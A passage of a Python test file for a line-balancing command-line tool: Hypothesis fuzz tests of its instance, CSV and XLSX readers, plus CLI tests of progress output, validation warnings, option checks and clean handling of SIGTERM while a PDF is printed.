    "<precedence relations>\n1,2\n<end>\n",
    "alwabp": "3\n1 2\n3 Inf\n4 5\n1 2\n2 3\n-1 -1\n",
}


def _mutate_text(data: st.DataObject, text: str, alphabet: str) -> str:
    for _ in range(data.draw(st.integers(1, 4))):
        if not text:
            break
        i = data.draw(st.integers(0, len(text) - 1))
        kind = data.draw(st.sampled_from(["delete", "insert", "replace", "cut"]))
        piece = data.draw(st.text(alphabet=alphabet, min_size=1, max_size=6))
        if kind == "delete":
            text = text[:i] + text[i + 1 :]
        elif kind == "insert":
            text = text[:i] + piece + text[i:]
        elif kind == "replace":
            text = text[:i] + piece + text[i + 1 :]
        else:
            text = text[:i]
    return text


@settings(max_examples=200, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_fuzz_instance_readers(data: st.DataObject) -> None:
    """Mutated ALWABP, .IN2 and .alb files: an instance or one located InputError."""
    import tempfile

    from jobcarve.carving.line.formats import read_instance

    fmt = data.draw(st.sampled_from(sorted(_INSTANCE_SEEDS)))
    text = _mutate_text(data, _INSTANCE_SEEDS[fmt], "0123456789-,<> \nInfaex_\x1a9999999999")
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / f"x.{fmt}"
        path.write_text(text, encoding="latin-1")
        try:
            inst = read_instance(path, fmt)
        except InputError as exc:
            assert len(exc.problems) == 1 and str(exc.problems[0]).startswith(str(path))
            return
    assert 1 <= inst.num_tasks <= 100_000
    assert all(t is None or 1 <= t <= 1_000_000_000 for row in inst.times for t in row)
    assert all(0 <= i < inst.num_tasks and 0 <= j < inst.num_tasks for i, j in inst.arcs)


@settings(max_examples=150, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.one_of(st.binary(max_size=600), st.data()))
def test_fuzz_csv_import(blob: bytes | st.DataObject) -> None:
    """Random bytes, and mutations of a good CSV inventory: data or located InputErrors."""
    import tempfile

    from jobcarve.spreadsheet import read_inventory

    if isinstance(blob, bytes):
        raw = blob
    else:
        good = "ID;Taak;Functie;Tijd (s);Voorgangers\na;Zagen;op;10;\nb;Boren;op;12,5;a\n"
        raw = _mutate_text(blob, good, ";,\"'\n=ab0123456789.\t|\x00é€").encode(
            blob.draw(st.sampled_from(["utf-8", "utf-16", "cp1252"])), "replace"
        )
    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "inv.csv"
        path.write_bytes(raw)
        try:
            read_inventory(path)
        except InputError as exc:
            assert exc.problems and all(str(p).startswith(str(path)) for p in exc.problems)
            assert all("\n" not in str(p) for p in exc.problems)


@settings(max_examples=60, deadline=None, suppress_health_check=[HealthCheck.too_slow])
@given(st.data())
def test_fuzz_xlsx_import(data: st.DataObject) -> None:
    """Byte-level damage to a real workbook, or odd cell values in it: never a crash."""
    import io
    import tempfile

    import openpyxl

    from jobcarve.spreadsheet import export_inventory, read_inventory

    with tempfile.TemporaryDirectory() as folder:
        path = Path(folder) / "inv.xlsx"
        export_inventory(parse_process(MINIMAL, "m.yaml"), path, "nl")
        if data.draw(st.booleans()):
            raw = bytearray(path.read_bytes())
            for _ in range(data.draw(st.integers(1, 8))):  # positions independent of the size
                raw[data.draw(st.integers(0, 10**6)) % len(raw)] = data.draw(st.integers(0, 255))
            path.write_bytes(bytes(raw))
        else:
            wb = openpyxl.load_workbook(io.BytesIO(path.read_bytes()))
            ws = wb["Taken"]
            for _ in range(data.draw(st.integers(1, 5))):
                value = data.draw(
                    st.one_of(
                        st.text(max_size=20).filter(lambda t: not any(ord(c) < 32 for c in t)),
                        st.floats(allow_nan=False),
                        st.integers(-(10**12), 10**12),
                        st.booleans(),
                        st.none(),
                    )
                )
                ws.cell(data.draw(st.integers(1, 6)), data.draw(st.integers(1, 50)), value)
            wb.save(path)
        try:
            read_inventory(path)
        except InputError as exc:
            assert exc.problems and all(str(p).startswith(str(path)) for p in exc.problems)


def test_progress_names_every_phase(tmp_path: Path) -> None:
    """M2: --progress announces and times each phase, not only solver improvements."""
    model = _write_model(tmp_path)
    result = run_cli(
        "analyze", str(model), "-o", str(tmp_path / "out"), "--progress", "--time-limit", "1"
    )
    assert result.returncode == 0, result.stderr
    for name in ("reading the model", "analysis", "plan:", "business case", "report", "writing"):
        assert f"progress: {name}" in result.stderr, (name, result.stderr)
    assert "progress: total" in result.stderr
    quiet = run_cli("analyze", str(model), "-o", str(tmp_path / "out2"), "--time-limit", "1")
    assert "progress:" not in quiet.stderr


def test_validate_says_what_analyze_needs(tmp_path: Path) -> None:
    """Friction: `validate` of a model without profiles or demands is ok, with a warning per
    thing `analyze` will still need (as after every import)."""

    def edit(data: dict[str, Any]) -> None:
        data["profiles"] = []
        del data["tasks"][0]["demands"]

    model = _write_model(tmp_path, edit)
    result = run_cli("validate", str(model))
    assert result.returncode == 0, result.stderr
    assert "analyze still needs 2 fixes" in result.stdout
    assert (
        "the model has no profiles" in result.stderr and 'task "a" has no demands' in result.stderr
    )
    assert "(analyze needs this)" in result.stderr
    folder = run_cli("validate", str(tmp_path))  # a folder: its *.yaml files
    assert folder.returncode == 0 and f"ok: {model}" in folder.stdout


def test_debug_after_the_subcommand(tmp_path: Path) -> None:
    """Friction: `jobcarve validate X --debug` is accepted like `jobcarve --debug validate X`."""
    result = hostile("validate", str(tmp_path / "missing.yaml"), "--debug")
    assert result.returncode == 2 and "no such file" in result.stderr
    assert "No such option" not in result.stderr


@pytest.mark.parametrize(
    ("options", "expect"),
    [
        ({"max_cobots": -5}, "option max_cobots must be from 0 to 50"),
        ({"time_limit_s": -1}, "option time_limit_s must be from 0.01"),
        ({"time_limit_s": float("nan")}, "found nan"),
        ({"workers": 0}, "option workers must be from 1 to 64"),
        ({"seed": 2**31}, "option seed must be from 0"),
        ({"time_limt_s": 3}, "unknown option 'time_limt_s' (did you mean \"time_limit_s\"?)"),
        ({"bogus": 3}, "unknown option 'bogus'"),
    ],
)
def test_plan_api_options_are_checked(options: dict[str, Any], expect: str) -> None:
    """M8, Python API: wrong plan() options are a UsageError, not an AssertionError or ignored."""
    from jobcarve import plan
    from jobcarve.exceptions import UsageError

    with pytest.raises(UsageError) as info:
        plan(parse_process(MINIMAL, "m.yaml"), **options)
    assert expect in str(info.value)


def test_empty_output_path_is_refused(tmp_path: Path) -> None:
    """Friction: `--out ""` would silently write into the current folder."""
    model = _write_model(tmp_path)
    result = hostile("analyze", str(model), "--out", "", cwd=tmp_path)
    assert result.returncode == 2 and "--out is empty" in result.stderr
    assert sorted(p.name for p in tmp_path.iterdir()) == ["m.yaml"]


def test_an_interrupted_run_that_does_not_end_is_ended() -> None:
    """A run still alive `INTERRUPT_GRACE_S` after SIGTERM is ended: exit 130, the one
    "interrupted" line, nothing written (one CI run: SIGTERM while Chromium printed, and the
    run still alive 120 s later). Here the grace is 1 s and the run ignores the interrupt,
    as one waiting on a browser that no longer answers does."""
    script = (
        "import time\n"
        "from jobcarve import cli\n"
        "cli.INTERRUPT_GRACE_S = 1.0\n"
        "cli._install_signal_handlers()\n"
        "def wait():\n"
        "    while True:\n"
        "        try:\n"
        "            time.sleep(60)\n"
        "        except KeyboardInterrupt:\n"
        "            pass\n"
        # the one interrupt may come before the loop is entered (a loaded machine: the
        # run died of the KeyboardInterrupt raised right after 'ready', exit -2)
        "try:\n"
        "    print('ready', flush=True)\n"
        "    wait()\n"
        "except KeyboardInterrupt:\n"
        "    wait()\n"
    )
    proc = subprocess.Popen(
        [sys.executable, "-c", script],
        stdout=subprocess.PIPE,
        stderr=subprocess.PIPE,
        text=True,
        cwd=ROOT,
    )
    assert proc.stdout is not None
    assert proc.stdout.readline().strip() == "ready"
    proc.send_signal(signal.SIGTERM)
    try:
        _, err = proc.communicate(timeout=60)
    finally:
        if proc.poll() is None:
            proc.kill()
    assert proc.returncode == 130
    assert err.strip().splitlines() == [
        "error: interrupted; nothing was written (earlier outputs are unchanged)"
    ]


@pytest.mark.parametrize("delay", [0.2, 1.5])
def test_sigterm_during_pdf(tmp_path: Path, delay: float) -> None:
    """M4: SIGTERM while Chromium prints: exit 130, one `error: interrupted` line, no Node.js
    stack trace, no Python exception text, nothing written."""
    import importlib.util
    import shutil

    if importlib.util.find_spec("playwright") is None or not (
        os.environ.get("CHROMIUM_PATH") or shutil.which("chromium")
    ):
        pytest.skip("needs playwright and Chromium")

    def run(out: Path, wait: float) -> tuple[int, str]:
        proc = subprocess.Popen(
            [
                sys.executable,
                "-m",
                "jobcarve",
                "analyze",
                str(EXAMPLES[2]),
                "-o",
                str(out),
                "--pdf",
                "--time-limit",
                "1",
                "--draws",
                "0",
                "--progress",
            ],
            stdout=subprocess.DEVNULL,
            stderr=subprocess.PIPE,
            text=True,
            cwd=ROOT,
        )
        assert proc.stderr is not None
        seen = ""
        deadline = time.time() + 120
        while time.time() < deadline and "progress: PDF" not in seen:
            seen += proc.stderr.readline()
        time.sleep(wait)
        proc.send_signal(signal.SIGTERM)
        _, err = proc.communicate(timeout=120)
        return proc.returncode, err

    # Chromium may print faster than the delay on a quiet machine (1.4 s against 1.5 s in
    # one CI run): then the signal came after the PDF, the outputs are whole, and the run is
    # repeated with a shorter delay until the signal lands while Chromium prints
    for attempt, wait in enumerate((delay, delay / 3, 0.1)):
        out = tmp_path / f"out{attempt}"
        code, err = run(out, wait)
        if "progress: PDF (Chromium) took" not in err:
            break
        if code == 130:
            # the signal came after Chromium printed and before the outputs were written
            # (one CI run, 2026-12-04): interrupted with nothing written, which is what is
            # tested here
            break
        assert (out / "report.pdf").is_file() and (out / "analysis.json").is_file(), err
    else:
        pytest.fail("every signal came after Chromium had printed the PDF")
    rest = [line for line in err.splitlines() if not line.startswith(("progress:", "  "))]
    assert code == 130, err
    assert rest == ["error: interrupted; nothing was written (earlier outputs are unchanged)"]
    assert not out.exists() or sorted(os.listdir(out)) == []
